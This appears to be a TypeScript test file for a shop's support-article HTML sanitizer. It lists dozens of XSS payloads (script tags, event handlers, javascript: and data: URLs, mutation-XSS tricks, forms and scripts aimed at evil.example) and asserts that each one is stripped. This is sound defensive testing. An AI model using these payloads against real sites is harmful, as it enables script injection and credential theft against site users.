import { afterAll, describe, expect, test } from 'vitest'
import { aSupportItem } from './factory.ts'
import { openShop, type TestShop } from '#test/shop.ts'
import articles from '#database/seed/content/support.json' with { type: 'json' }
import { listSupportItems } from './contract/content.ts'

const shop: TestShop = await openShop()
const visitor = await shop.as(null)

afterAll(() => shop.close())

/** The HTML that readers get for an article whose content was written directly into the database. */
async function answered(content: string): Promise<string> {
  const { id } = await aSupportItem(shop, { content })
  const { body } = await visitor.call(listSupportItems)
  return body.find((article) => article.id === id)!.content
}

describe('an article keeps allowed HTML', () => {
  test.for([
    '<h2>Heading</h2><h3>Smaller</h3><p>Text<br />more</p><hr />',
    '<ul><li>one</li></ul><ol start="3"><li>three</li></ol><dl><dt>a</dt><dd>b</dd></dl>',
    '<p><strong>a</strong><em>b</em><b>c</b><i>d</i><u>e</u><sub>2</sub><sup>3</sup><mark>f</mark></p>',
    '<blockquote><p>said</p></blockquote><pre><code>x = 1</code></pre>',
    '<table tabindex="0"><thead><tr><th scope="col">a</th></tr></thead><tbody><tr><td colspan="2">b</td></tr></tbody></table>',
    '<a href="https://example.com/a?b=1#c">a</a><a href="http://example.com">b</a>',
    '<a href="mailto:a@example.com">a</a><a href="tel:+84280000">b</a>',
    '<a href="/support/warranty">a</a><a href="#part">b</a><a href="other">c</a>',
    '<p>5 &lt; 6 &amp; 7 &gt; 6, đồng, 窗帘</p>',
  ])('%s', async (html) => expect(await answered(html)).toBe(html))

  test.for(['/pictures/a-1280.webp', '/figures/a.svg', '/uploads/a.png', 'https://example.com/a.png'])(
    'an article keeps allowed HTML with a picture from %s',
    async (src) =>
      expect(await answered(`<img src="${src}" alt="A">`)).toBe(
        `<img src="${src}" alt="A" loading="lazy" />`,
      ),
  )

  test('an article keeps allowed HTML of all articles of the demo shop', async () => {
    for (const { content } of articles) {
      expect(await answered(content.join('\n'))).toBe(content.join('\n'))
    }
  })

  test('an article keeps allowed HTML with its headings moved below the page’s heading', async () => {
    expect(await answered('<h1>Loud</h1>')).toBe('<h2>Loud</h2>')
  })

  test('an article keeps allowed HTML with an empty alt text on a picture without one', async () => {
    expect(await answered('<img src="/pictures/a-1280.webp">')).toBe(
      '<img src="/pictures/a-1280.webp" alt="" loading="lazy" />',
    )
  })

  test('an article keeps allowed HTML with wide tables made scrollable by keyboard', async () => {
    expect(await answered('<table><tbody><tr><td>a</td></tr></tbody></table>')).toBe(
      '<table tabindex="0"><tbody><tr><td>a</td></tr></tbody></table>',
    )
  })

  test('an article keeps allowed HTML without empty headings and links', async () => {
    expect(await answered('<h2> </h2><h3><br></h3><p>a<a href="/x"></a></p>')).toBe('<p>a</p>')
    expect(await answered('<h2>&nbsp;</h2><p>a</p>')).toBe('<p>a</p>')
    const indented = `<h2>${'\u00a0'.repeat(60)}a</h2>`
    expect(await answered(indented)).toBe(indented)
    const picture = '<a href="/x"><b><img alt="A" src="/pictures/a-1280.webp" loading="lazy" /></b></a>'
    expect(await answered(picture)).toBe(picture)
  })

  test('an article keeps allowed HTML and gets its unclosed tags closed', async () => {
    expect(await answered('<ul><li><b>a')).toBe('<ul><li><b>a</b></li></ul>')
  })
})

describe('an article loses dangerous HTML', () => {
  const attacks = [
    '<script>alert(1)</script>',
    '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<img src=x onerror=alert(1)>',
    '<img src="/pictures/a.webp" onerror="alert(1)" onload=alert(1)>',
    '<img src="/pictures/a.webp" srcset="//evil.example/x 1x" style="width:9999px">',
    '<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x></svg>',
    '<svg><script>alert(1)</script></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
    '<a href="javascript:alert(1)">a</a>',
    '<a href="JaVaScRiPt:alert(1)">a</a>',
    '<a href="java\tscript:alert(1)">a</a>',
    '<a href="&#106;&#97;vascript:alert(1)">a</a>',
    '<a href=" \u0001javascript:alert(1)">a</a>',
    '<a href="vbscript:alert(1)">a</a>',
    '<a href="data:text/html,<script>alert(1)</script>">a</a>',
    '<a href="/" onclick="alert(1)" onmouseover=alert(1)>a</a>',
    '<p style="background:url(javascript:alert(1))" onfocus=alert(1) tabindex=0 autofocus>a</p>',
    '<iframe src="https://evil.example"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="x.swf"></object><embed src="x.swf"><applet code=x></applet>',
    '<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">a</button></form>',
    '<style>@import "//evil.example/x.css"; body { display: none }</style>',
    '<link rel=stylesheet href=//evil.example/x.css><base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></p></noscript>',
    '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
    '<title><img src=x onerror=alert(1)></title>',
    '<!--><img src=x onerror=alert(1)>-->',
    '<!-- a --!><script>alert(1)</script> -->',
    '<template><script>alert(1)</script></template>',
    '<details open ontoggle=alert(1)><summary>a</summary></details>',
    '<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>',
    '<p id="content" class="fixed inset-0" data-x=1 name=cookie>a</p>',
    '<marquee onstart=alert(1)>a</marquee><body onload=alert(1)>',
    '<xmp><img src=x onerror=alert(1)></xmp><plaintext><img src=x onerror=alert(1)>',
  ]

  /** The allowed tags; `harmless` matches HTML with only these, allowed attributes and safe URLs. */
  const tags =
    'h[2-6]|p|br|hr|div|blockquote|[uo]l|li|d[ltd]|a|strong|b|em|i|u|pre|code|table|t[rdh]|tbody|img'
  const harmless = new RegExp(
    `^(?:[^<>]|</(?:${tags})>|<(?:${tags})(?: (?:href="(?:https?://|mailto:|tel:|/|#)[^"]*"|src="(?:/pictures/|/uploads/|https://)[^"]*"|(?:alt|title|loading)="[^"]*"))*(?: /)?>)*$`,
  )

  test.for(attacks)('%s', async (attack) => {
    const html = await answered(`<p>before</p>${attack}`)
    expect(html).toMatch(harmless)
    expect(html.startsWith('<p>before</p>')).toBe(true)
  })

  test.for([
    '//evil.example',
    '/\\evil.example',
    '\\\\evil.example',
    '/\t/evil.example',
    'ftp://evil.example',
  ])('such as a link that leaves the site by a trick: %j', async (href) =>
    expect(await answered(`<a href="${href}">a</a>`)).toBe('<a>a</a>'),
  )

  test.for([
    '//evil.example/x.png',
    'http://evil.example/x.png',
    'data:image/svg+xml;base64,PHN2Zz4=',
    '/api/logout',
    '/pictures/../api/logout',
    '/pictures/%2e%2e/api/logout',
    'pictures/a.webp',
    '/\\evil.example/pictures/a.png',
    'javascript:alert(1)',
  ])('such as a picture from a forbidden source: %s', async (src) =>
    expect(await answered(`<img src="${src}" alt="A">`)).toBe(''),
  )

  test('an article loses dangerous HTML and nesting deep enough to crash a browser', async () => {
    const html = await answered('<div>'.repeat(5000) + 'deep')
    expect(html.match(/<div>/g)!.length).toBeLessThanOrEqual(40)
    expect(html).toContain('deep')
  })
})
